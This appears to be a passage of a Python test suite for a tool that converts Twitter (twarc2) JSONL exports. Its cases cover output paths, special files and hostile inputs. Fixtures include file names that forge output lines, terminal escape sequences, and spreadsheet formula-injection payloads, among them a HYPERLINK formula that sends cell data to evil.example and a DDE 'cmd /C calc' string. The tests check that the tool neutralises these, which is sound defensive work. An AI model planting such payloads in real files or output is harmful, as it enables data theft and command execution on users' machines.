    return str(workdir / "no" / "such" / "dir" / OUTPUTS[command])


def _under_file(workdir: Path, command: str) -> str:
    return str(workdir / "in.jsonl" / OUTPUTS[command])


@case("output-into-a-missing-directory", "output paths", exit=NO_OUTPUT, output=_under_missing)
def _out_missing(d):
    inputs = _plain_input(d)
    inputs.message = ("no/such/dir",)
    return inputs


@case("output-under-a-regular-file", "output paths", exit=NO_OUTPUT, output=_under_file)
def _out_file(d):
    inputs = _plain_input(d)
    inputs.message = (str(d / "in.jsonl"),)
    return inputs


def _readonly_dir(workdir: Path, command: str) -> str:
    return str(workdir / "readonly" / OUTPUTS[command])


def _immutable(folder: Path, on: bool) -> bool:
    """``chattr +i`` (or ``-i``) on ``folder``: what makes a directory
    read-only for root, who may write into a 0555 one."""
    try:
        return subprocess.run(["chattr", "+i" if on else "-i", str(folder)], capture_output=True).returncode == 0
    except OSError:
        return False


@functools.lru_cache(maxsize=None)
def _readonly_skip() -> str | None:
    if os.geteuid() != 0:
        return None
    with tempfile.TemporaryDirectory() as probe:
        if _immutable(Path(probe), True):
            _immutable(Path(probe), False)
            return None
    return ("running as root, who may write into a 0555 directory, and chattr +i is not available here; "
            "the output-under-a-regular-file case fails for root too")


def _writable_again(workdir: Path) -> None:
    if os.geteuid() == 0:
        _immutable(workdir / "readonly", False)


@case("output-into-a-read-only-directory", "output paths", exit=NO_OUTPUT, output=_readonly_dir, skip=_readonly_skip,
      teardown=_writable_again)
def _out_readonly(d):
    inputs = _plain_input(d)
    ro = d / "readonly"
    ro.mkdir()
    ro.chmod(0o555)
    if os.geteuid() == 0:
        assert _immutable(ro, True)
    inputs.message = ("not writable", str(ro))
    return inputs


def _same_as_input(workdir: Path, command: str) -> str:
    return str(workdir / "in.jsonl")


def _input_unchanged(case, command, run, inputs, workdir):
    path = Path(inputs.paths[0])
    assert path.read_bytes() == inputs.notes["bytes"], f"{command} changed its input {path}"


def _with_bytes(inputs: Inputs) -> Inputs:
    inputs.notes["bytes"] = Path(inputs.paths[0]).read_bytes()
    return inputs


@case("output-equal-to-the-input", "output paths", exit=NO_OUTPUT, output=_same_as_input, check=_input_unchanged)
def _out_same(d):
    inputs = _with_bytes(_plain_input(d))
    inputs.message = ("refusing to write over the input", str(d / "in.jsonl"))
    return inputs


def _link_to_input(workdir: Path, command: str) -> str:
    return str(workdir / "link.jsonl")


@case("output-a-link-to-the-input", "output paths", exit=NO_OUTPUT, output=_link_to_input, check=_input_unchanged)
def _out_link(d):
    inputs = _with_bytes(_plain_input(d))
    os.link(d / "in.jsonl", d / "link.jsonl")
    inputs.message = ("refusing to write over the input",)
    return inputs


def _mode_kept(case, command, run, inputs, workdir):
    if command == "validate" or (command == "ledger-add" and case.name.endswith("-file")):
        return
    out = output_path(workdir, command)
    st = out.stat()
    assert stat.S_IMODE(st.st_mode) == 0o600, f"{command}: {out} is now {oct(stat.S_IMODE(st.st_mode))}"
    if command != "ledger-add":
        assert out.read_bytes() != b"old output\n", f"{command} did not write {out}"


@case("output-over-an-existing-0600-file", "output paths", exit=0, check=_mode_kept)
def _out_0600(d):
    inputs = _plain_input(d)
    (d / "out").mkdir()
    for command in OUTPUTS:
        if command == "ledger-add":
            continue
        out = output_path(d, command)
        out.write_bytes(b"old output\n")
        out.chmod(0o600)
    return inputs


@case("output-over-an-existing-0600-ledger", "output paths", exit=0, check=_mode_kept)
def _ledger_0600(d):
    inputs = _plain_input(d)
    (d / "out").mkdir()
    for command in OUTPUTS:
        out = output_path(d, command)
        out.touch()
        out.chmod(0o600)
    return inputs


# ---------------------------------------------------------------- file names

FORGED = "ok   forged.jsonl (twarc2): 9 record(s), 9 post(s), 0 problem(s)"


def _no_forged_line(case, command, run, inputs, workdir):
    for line in run.stdout.decode("utf-8", "replace").splitlines() + run.stderr.decode("utf-8", "replace").splitlines():
        assert not line.startswith(("ok   forged", "ok  forged")), f"{command} printed a forged line: {line!r}"


def _named(path: Path, shown: str) -> Inputs:
    """A file under a hostile name, with one broken line: its problem must
    show the name as ``shown`` (escaped) and the line."""
    e = Export()
    e.thread(3)
    bad = e.raw(b"{broken")
    e.write(path)
    return Inputs([str(path)], e.good, (shown, f":{bad}:"))


@case("file-name-with-a-newline-forging-a-line", "file names", check=_no_forged_line)
def _newline_name(d):
    return _named(d / f"evil.jsonl\n{FORGED}", "evil.jsonl\\n")


@case("file-name-with-terminal-escapes", "file names")
def _escape_name(d):
    return _named(d / "\x1b]0;pwned\x07\x1b[2Jx.jsonl", "\\x1b]0;pwned\\x07\\x1b[2Jx.jsonl")


@case("file-name-not-utf8", "file names")
def _bytes_name(d):
    return _named(Path(os.fsdecode(bytes(d) + b"/caf\xe9.jsonl")), "caf")


@case("file-names-in-a-walked-directory", "file names", check=_no_forged_line)
def _walked_names(d):
    root = d / "export"
    (root / "sub").mkdir(parents=True)
    e = Export()
    e.thread(3)
    e.write(root / "sub" / "\x1b[31mred.jsonl")
    e2 = Export()
    e2._next = FIRST_ID + 1000
    e2.thread(4)
    bad = e2.raw(b"{broken")
    e2.write(root / f"b.jsonl\n{FORGED}\n.jsonl")
    (root / "notes\x07.md").write_text("# notes\n", encoding="utf-8")
    return Inputs([str(root)], e.good + e2.good, ("b.jsonl\\n", f":{bad}:"))


# ---------------------------------------------------------------- special files

@case("fifo-with-no-writer", "special files", seconds=15, concurrent=True)
def _fifo(d):
    path = d / "pipe.jsonl"
    os.mkfifo(path)
    return Inputs([str(path)], 0, (str(path), "FIFO"))


@case("dev-zero-by-name", "special files", seconds=10, memory_mb=1000)
def _zero(d):
    return Inputs(["/dev/zero"], 0, ("/dev/zero", "binary"))


@case("dev-zero-as-stdin", "special files", seconds=10, memory_mb=1000)
def _zero_stdin(d):
    return Inputs(["-"], 0, ("<stdin>", "binary"), stdin="/dev/zero")


@case("dev-null-as-stdin", "special files")
def _null_stdin(d):
    return Inputs(["-"], 0, ("<stdin>",), stdin="/dev/null")


@case("directory-with-fifo-dev-zero-link-and-broken-link", "special files", exit=0, seconds=10)
def _special_dir(d):
    root = d / "export"
    root.mkdir()
    e = _lines_of_posts(2)
    e.write(root / "good.jsonl")
    os.mkfifo(root / "pipe.jsonl")
    os.symlink("/dev/zero", root / "zero.jsonl")
    os.symlink(root / "nowhere.jsonl", root / "broken.jsonl")
    return Inputs([str(root)], e.good)


# ---------------------------------------------------------------- terminal

EVIL = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x07\x9b31m\u202edesrever\x08\r"


def _no_raw_controls(case, command, run, inputs, workdir):
    for name, data in (("stdout", run.stdout), ("stderr", run.stderr)):
        text = data.decode("utf-8", "replace")
        for c in ("\x1b", "\x07", "\x9b", "\x08", "\u202e"):
            assert c not in text, f"{command}: raw {c!r} on {name}"


@case("text-with-esc-and-bel-on-a-terminal", "terminal", exit=0, terminal=True, check=_no_raw_controls)
def _evil_text(d):
    e = Export()
    root = e.new_id()
    users = ({"id": "100", "username": "alice", "name": f"Alice {EVIL}"}, {"id": "101", "username": "bob", "name": "Bob"})
    e.page([tweet(root, f"Hello {EVIL} will it ship by Q1 2027? {EVIL}", "100"),
            tweet(e.new_id(), f"@alice {EVIL} no, it ships in 2028 for sure {EVIL}", "101", root, root, 1),
            tweet(e.new_id(), f"@bob GPT-5 scores 90% on MMLU {EVIL}", "100", root, root, 2)], users=users)
    path = e.write(d / "evil.jsonl")
    return Inputs([str(path)], e.good)


@case("problem-reason-with-escapes-on-a-terminal", "terminal", terminal=True, check=_no_raw_controls)
def _evil_problem(d):
    return jsonl_case(d, lambda e: (e.raw(f'{{"title": "{EVIL}", "status": 500, "detail": "x"}}'
                                          .encode("utf-8", "surrogatepass").replace(b"\x1b", b"\\u001b")
                                          .replace(b"\x07", b"\\u0007").replace(b"\x08", b"\\b")
                                          .replace(b"\r", b"\\r")), "API error"))


# ---------------------------------------------------------------- exports

CONTROL = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\ufffe\uffff\x7f"


def _xml_parses(case, command, run, inputs, workdir):
    import xml.etree.ElementTree as ET
    if command in ("graph", "graph-gexf", "graph-participants"):
        out = output_path(workdir, "graph").with_name({"graph": "graph.graphml", "graph-gexf": "graph.gexf",
                                                       "graph-participants": "people.graphml"}[command])
        ET.parse(out)


@case("xml-control-characters-in-texts-and-names", "exports", exit=0, check=_xml_parses)
def _xml(d):
    e = Export()
    root = e.new_id()
    users = ({"id": "100", "username": "alice", "name": f"Al{CONTROL}ice"}, {"id": "101", "username": "bob", "name": "Bob"})
    e.page([tweet(root, f"root {CONTROL} text", "100"),
            tweet(e.new_id(), f"@alice reply {CONTROL}", "101", root, root, 1)], users=users)
    path = e.write(d / "control.jsonl")
    return Inputs([str(path)], e.good)


FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd",
            "\t=1+1", "\r=1+1")


def _neutralised(case, command, run, inputs, workdir, raw: bool = False):
    if command not in CSV_COMMANDS and command != "graph-csv":
        return
    name = "edges.csv" if command == "graph-csv" else OUTPUTS[command]
    rows = list(csv.reader(io.StringIO((workdir / "out" / name).read_text(encoding="utf-8"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    hostile = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if raw:
        if command in ("posts", "stats", "participants", "predictions"):     # the others hold no text cell
            assert hostile, f"{command} --raw-csv changed the cells"
    else:
        assert not hostile, f"{command}: formula cells in the CSV: {hostile[:3]}"
        if command == "posts":
            assert any(c.startswith("'=HYPERLINK") for c in cells)


def _formula_export(d) -> Inputs:
    e = Export()
    root = e.new_id()
    users = ({"id": "100", "username": "alice", "name": "=cmd|' /C calc'!A0"}, {"id": "101", "username": "bob", "name": "+Bob"})
    tweets = [tweet(root, FORMULAS[0] + " will it ship by Q1 2027?", "100")]
    for i, f in enumerate(FORMULAS[1:], 1):
        tweets.append(tweet(e.new_id(), f"{f} GPT-5 scores 90% on MMLU, ships in 2028", USERS[i % 2]["id"], root, root, i))
    tweets.append(tweet(e.new_id(), "@alice =HYPERLINK(\"x\") agreed, by Q2 2027", "101", root, root, 9))
    e.page(tweets, users=users)
    path = e.write(d / "formulas.jsonl")
    return Inputs([str(path)], e.good)


@case("csv-formula-cells-neutralised", "exports", exit=0, check=_neutralised)
def _formulas(d):
    return _formula_export(d)


@case("csv-formula-cells-kept-with-raw-csv", "exports", exit=0, extra=("--raw-csv",),
      check=lambda *a: _neutralised(*a, raw=True))
def _formulas_raw(d):
    return _formula_export(d)


# ---------------------------------------------------------------- empty

@case("empty-directory", "empty")
def _empty_dir(d):
    (d / "export").mkdir()
    return Inputs([str(d / "export")], 0, (str(d / "export"), "no posts"))


@case("directory-with-no-posts", "empty")
def _no_posts_dir(d):
    root = d / "export"
    root.mkdir()
    (root / "README.md").write_text("# notes\n", encoding="utf-8")
    (root / "structure.json").write_text('{"1": {"2": []}}', encoding="utf-8")
    (root / "users.jsonl").write_text(json.dumps({"data": list(USERS), "meta": {}}) + "\n", encoding="utf-8")
    return Inputs([str(root)], 0, (str(root), "no posts"))


@case("empty-file", "empty")
def _empty_file(d):
    path = d / "empty.jsonl"
    path.write_bytes(b"")
    return Inputs([str(path)], 0, (str(path), "empty"))


@case("page-with-no-tweets", "empty")
def _empty_page(d):
    path = d / "nothing.jsonl"
    path.write_text(json.dumps({"data": [], "meta": {"result_count": 0}}) + "\n", encoding="utf-8")
    return Inputs([str(path)], 0, (str(path), "no posts"))


# ---------------------------------------------------------------- duplicates

@case("duplicate-id-different-texts", "duplicates")
def _dup(d):
    def build(e):
        pid = e.new_id()
        e.page([tweet(pid, "The original text.", "101")])
        line = e.page([tweet(pid, "A doctored text that says the opposite.", "101")], lost=1)
        return line, "kept"
    inputs = jsonl_case(d, build)
    inputs.message = inputs.message + ("appears twice with different texts",)
    return inputs


@case("duplicate-id-same-text", "duplicates", exit=0)
def _dup_same(d):
    def build(e):
        pid = e.new_id()
        e.page([tweet(pid, "Seen on two pages.", "101")])
        e.page([tweet(pid, "Seen on two pages.", "101")], lost=1)
    return jsonl_case(d, build)
